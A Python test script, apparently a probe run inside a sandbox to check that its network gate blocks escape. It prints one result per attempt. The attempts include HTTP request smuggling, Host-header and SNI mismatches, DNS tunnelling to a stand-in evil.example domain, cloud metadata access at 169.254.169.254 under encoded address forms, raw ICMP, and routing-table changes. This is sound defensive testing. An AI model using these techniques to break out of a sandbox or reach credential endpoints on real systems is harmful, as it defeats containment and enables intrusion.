"""What a program in a sandbox tries at the gate. Prints a name and what came of it, one a line."""

import asyncio
import errno
import re
import socket
import ssl
import struct
import sys

TIMEOUT = 20
# An address of the gate's own that stands for no name.
GATE = "198.19.200.200"


def attempt(name, work):
    try:
        value = work()
    except ssl.SSLError as error:
        value = re.sub(r"^.*(alert|tlsv1) ", "alert ", (error.reason or str(error)).lower().replace("_", " "))
    except OSError as error:
        value = errno.errorcode.get(error.errno, type(error).__name__) if error.errno else type(error).__name__
    print(name, value, flush=True)


def read_all(stream):
    stream.settimeout(TIMEOUT)
    data = b""
    try:
        while chunk := stream.recv(65536):
            data += chunk
    except ConnectionResetError:
        pass
    return data


def first_lines(answer):
    """The status and the first line of the body of the first answer."""
    if not answer:
        return "closed"
    head, _, body = answer.partition(b"\r\n\r\n")
    return head.split(b" ")[1].decode() + " " + body.split(b"\n")[0].decode()


def raw(connect, data, port=80):
    with socket.create_connection((connect, port), TIMEOUT) as stream:
        stream.sendall(data)
        return read_all(stream)


def request(host, path="/"):
    return f"GET {path} HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n".encode()


def get(connect, host=None, path="/"):
    return first_lines(raw(connect, request(host or connect, path)))


def tls(connect, name, host=None):
    context = ssl.create_default_context()
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    with socket.create_connection((connect, 443), TIMEOUT) as stream:
        stream.settimeout(TIMEOUT)
        with context.wrap_socket(stream, server_hostname=name) as secure:
            secure.sendall(request(host or name or connect))
            return first_lines(read_all(secure))


def ask(name, kind, resolver="8.8.8.8", by_tcp=False):
    labels = b"".join(bytes([len(label)]) + label.encode() for label in name.split("."))
    message = struct.pack("!6H", 7, 0x100, 1, 0, 0, 0) + labels + b"\0" + struct.pack("!2H", kind, 1)
    if by_tcp:
        with socket.create_connection((resolver, 53), TIMEOUT) as stream:
            stream.sendall(struct.pack("!H", len(message)) + message)
            stream.settimeout(TIMEOUT)
            answer = stream.recv(4096)[2:]
    else:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as stream:
            stream.settimeout(TIMEOUT)
            stream.connect((resolver, 53))
            stream.send(message)
            answer = stream.recv(4096)
    code, count = answer[3] & 15, struct.unpack("!H", answer[6:8])[0]
    network = f" in {answer[-4]}.{answer[-3]}" if count and kind == 1 else ""
    return f"code {code} answers {count}{network}"


def udp(address, port):
    family = socket.AF_INET6 if ":" in address else socket.AF_INET
    with socket.socket(family, socket.SOCK_DGRAM) as stream:
        stream.settimeout(TIMEOUT)
        stream.connect((address, port))
        stream.send(b"hello")
        return stream.recv(100)


def bind(address, port, kind=socket.SOCK_STREAM):
    family = socket.AF_INET6 if ":" in address else socket.AF_INET
    with socket.socket(family, kind) as stream:
        stream.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        stream.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
        stream.bind((address, port))
        if kind == socket.SOCK_STREAM:
            stream.listen()
        return "bound"


def own_server():
    with socket.socket() as listener:
        listener.bind(("0.0.0.0", 8123))
        listener.listen()
        with socket.create_connection(("9.9.9.9", 8123), TIMEOUT):
            listener.accept()
            return "its own"


def icmp(kind):
    socket.socket(socket.AF_INET, kind, socket.IPPROTO_ICMP)
    return "made"


def change_routes(kind):
    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0) as kernel:
        body = struct.pack("=8BI", socket.AF_INET, 0, 0, 0, 255, 3, 254, 2, 0) + struct.pack("=HHI", 8, 4, 1)
        kernel.send(struct.pack("=IHHII", 16 + len(body), kind, 5, 1, 0) + body)
        code = struct.unpack("=i", kernel.recv(4096)[16:20])[0]
        return "done" if code == 0 else errno.errorcode[-code]


def abstract(name):
    with socket.socket(socket.AF_UNIX) as stream:
        stream.connect("\0" + name)
        return "connected"


def follow(host, path):
    head = raw(host, request(host, path)).partition(b"\r\n\r\n")[0].decode()
    return get(re.search(r"location: http://([^/]+)/", head, re.IGNORECASE).group(1))


def statuses(answer):
    return " then ".join(part.decode() for part in re.findall(rb"HTTP/1.1 (\d+)", answer))


def second_request(other):
    return statuses(raw("allowed.example", b"GET / HTTP/1.1\r\nHost: allowed.example\r\n\r\n" + request(other)))


def smuggled(first, second):
    body = "0\r\n\r\n" + request("denied.example", "/smuggled").decode()
    data = f"POST / HTTP/1.1\r\nHost: allowed.example\r\n{first}{second}\r\n".replace("LENGTH", str(len(body))) + body
    return statuses(raw("allowed.example", data.encode()))


def web_socket():
    with socket.create_connection(("allowed.example", 80), TIMEOUT) as stream:
        stream.settimeout(TIMEOUT)
        stream.sendall(
            b"GET /socket HTTP/1.1\r\nHost: allowed.example\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\r\n"
        )
        head = b""
        while b"\r\n\r\n" not in head:
            head += stream.recv(1)
        stream.sendall(b"echo this")
        said = b""
        while len(said) < 9 and (chunk := stream.recv(9)):
            said += chunk
        return head.split(b" ")[1].decode() + " " + said.decode()


def limited(host_socket):
    attempt("allowed", lambda: get("allowed.example"))
    attempt("upper_case", lambda: get("ALLOWED.Example", "ALLOWED.example"))
    attempt("trailing_dot", lambda: get("allowed.example."))
    attempt("below_a_wildcard", lambda: get("a.b.wild.example"))
    attempt("wildcard_itself", lambda: get("wild.example"))
    attempt("beside_a_wildcard", lambda: get("notwild.example"))
    attempt("suffix_of_allowed", lambda: get("allowed.example.evil.example"))
    attempt("homograph", lambda: get("xn--llowed-5nf.example"))
    attempt("denied", lambda: get("denied.example"))
    attempt("userinfo", lambda: get("allowed.example", "allowed.example@denied.example"))
    attempt("host_other", lambda: get("allowed.example", "denied.example"))
    attempt("host_other_port", lambda: get("allowed.example", "allowed.example:8080"))
    attempt("host_missing", lambda: first_lines(raw("allowed.example", b"GET / HTTP/1.1\r\n\r\n")))
    twice = b"GET / HTTP/1.1\r\nHost: allowed.example\r\nHost: denied.example\r\n\r\n"
    attempt("host_twice", lambda: first_lines(raw("allowed.example", twice)))
    attempt("second_request", lambda: second_request("denied.example"))
    attempt("smuggled_te_last", lambda: smuggled("Content-Length: LENGTH\r\n", "Transfer-Encoding: chunked\r\n"))
    attempt("smuggled_te_first", lambda: smuggled("Transfer-Encoding: chunked\r\n", "Content-Length: LENGTH\r\n"))
    connect = b"CONNECT denied.example:443 HTTP/1.1\r\nHost: denied.example:443\r\n\r\n"
    attempt("connect", lambda: first_lines(raw("allowed.example", connect)))
    absolute = b"GET http://denied.example/ HTTP/1.1\r\nHost: allowed.example\r\n\r\n"
    attempt("absolute_form", lambda: first_lines(raw("allowed.example", absolute)))
    attempt("long_headers", lambda: first_lines(raw("allowed.example", request("allowed.example", "/" + "x" * 200_000))))
    attempt("redirect_away", lambda: follow("allowed.example", "/to/denied.example"))
    attempt("web_socket", web_socket)
    attempt("tls_allowed", lambda: tls("allowed.example", "allowed.example"))
    attempt("tls_denied", lambda: tls("denied.example", "denied.example"))
    attempt("tls_other_name", lambda: tls("allowed.example", "denied.example"))
    attempt("tls_other_connect", lambda: tls("denied.example", "allowed.example"))
    attempt("tls_without_name", lambda: tls("allowed.example", None))
    attempt("http_at_443", lambda: first_lines(raw("allowed.example", request("allowed.example"), 443)))
    attempt("address", lambda: get("1.2.3.4"))
    attempt("address_with_allowed_host", lambda: get("1.2.3.4", "allowed.example"))
    attempt("address_tls", lambda: tls("1.2.3.4", "allowed.example"))
    attempt("address_v6", lambda: get("2606:4700::1", "[2606:4700::1]"))
    attempt("gate_address", lambda: get(GATE))
    attempt("own_loopback", lambda: get("127.0.0.1"))
    attempt("resolves_to_private", lambda: get("private.example"))
    attempt("resolves_to_metadata", lambda: get("metadata.example"))
    attempt("resolves_to_rota", lambda: get("rota.example"))
    attempt("other_port", lambda: raw("1.2.3.4", b"", 8080))
    attempt("other_port_v6", lambda: raw("2606:4700::1", b"", 8080))
    attempt("udp", lambda: udp("8.8.8.8", 9999))
    attempt("quic", lambda: udp("1.2.3.4", 443))
    attempt("udp_v6", lambda: udp("2606:4700::1", 443))
    attempt("icmp_raw", lambda: icmp(socket.SOCK_RAW))
    attempt("icmp_ping", lambda: icmp(socket.SOCK_DGRAM))
    attempt("dns_any_resolver", lambda: ask("allowed.example", 1))
    attempt("dns_by_tcp", lambda: ask("allowed.example", 1, by_tcp=True))
    attempt("dns_denied", lambda: ask("denied.example", 1))
    tunnel = ".".join(["x" * 63, "y" * 63, "z" * 63, "evil.example"])
    attempt("dns_tunnel", lambda: ask(tunnel, 1))
    attempt("dns_text", lambda: ask(tunnel, 16))
    attempt("dns_https", lambda: ask("allowed.example", 65))
    attempt("dns_address_as_name", lambda: ask("2852039166", 1))
    attempt("dns_reverse", lambda: ask("4.3.2.1.in-addr.arpa", 12))
    for port in (80, 443):
        attempt(f"bind_any_{port}", lambda port=port: bind("0.0.0.0", port))
        attempt(f"bind_one_{port}", lambda port=port: bind("1.2.3.4", port))
        attempt(f"bind_v6_{port}", lambda port=port: bind("::1", port))
    attempt("bind_53", lambda: bind("127.0.0.1", 53))
    attempt("bind_53_udp", lambda: bind("127.0.0.1", 53, socket.SOCK_DGRAM))
    attempt("own_server", own_server)
    attempt("add_route", lambda: change_routes(24))
    attempt("delete_route", lambda: change_routes(25))
    attempt("abstract_socket_of_the_host", lambda: abstract(host_socket))


def unrestricted():
    attempt("any_host", lambda: get("allowed.example"))
    attempt("other_host", lambda: get("denied.example"))
    attempt("tls_any_host", lambda: tls("denied.example", "denied.example"))
    attempt("host_other", lambda: get("allowed.example", "denied.example"))
    attempt("tls_other_name", lambda: tls("allowed.example", "denied.example"))
    attempt("resolves_to_private", lambda: get("private.example"))
    attempt("resolves_to_metadata", lambda: get("metadata.example"))
    attempt("resolves_to_rota", lambda: get("rota.example"))
    attempt("metadata", lambda: get("169.254.169.254"))
    attempt("metadata_tls", lambda: tls("169.254.169.254", "metadata.example"))
    # The C library reads these as addresses, so that no name is asked for.
    for form in ("2852039166", "0251.0376.0251.0376", "0xa9fea9fe"):
        attempt(f"metadata_as_{form}", lambda form=form: get(form, "x"))
    for form in ("::ffff:169.254.169.254", "64:ff9b::a9fe:a9fe"):
        attempt(f"metadata_as_{form}", lambda form=form: get(form, "x"))
    for address in ("10.0.0.1", "172.16.0.1", "192.168.0.1", "100.100.100.200", "168.63.129.16", "192.0.0.192"):
        attempt(address, lambda address=address: get(address))
    for address in ("fd00:ec2::254", "fd20:ce::254", "::1"):
        attempt(address, lambda address=address: get(address, "x"))


async def crowd(count):
    """So many connections, all open before the first of them asks. How many were answered."""
    streams = [await asyncio.open_connection("allowed.example", 80) for _ in range(count)]

    async def answered(reader, writer):
        writer.write(request("allowed.example"))
        status = await reader.read(12)
        writer.close()
        return status == b"HTTP/1.1 200"

    print(sum(await asyncio.gather(*[answered(*stream) for stream in streams])))


if sys.argv[1] == "limited":
    limited(sys.argv[2])
elif sys.argv[1] == "unrestricted":
    unrestricted()
else:
    asyncio.run(crowd(int(sys.argv[2])))
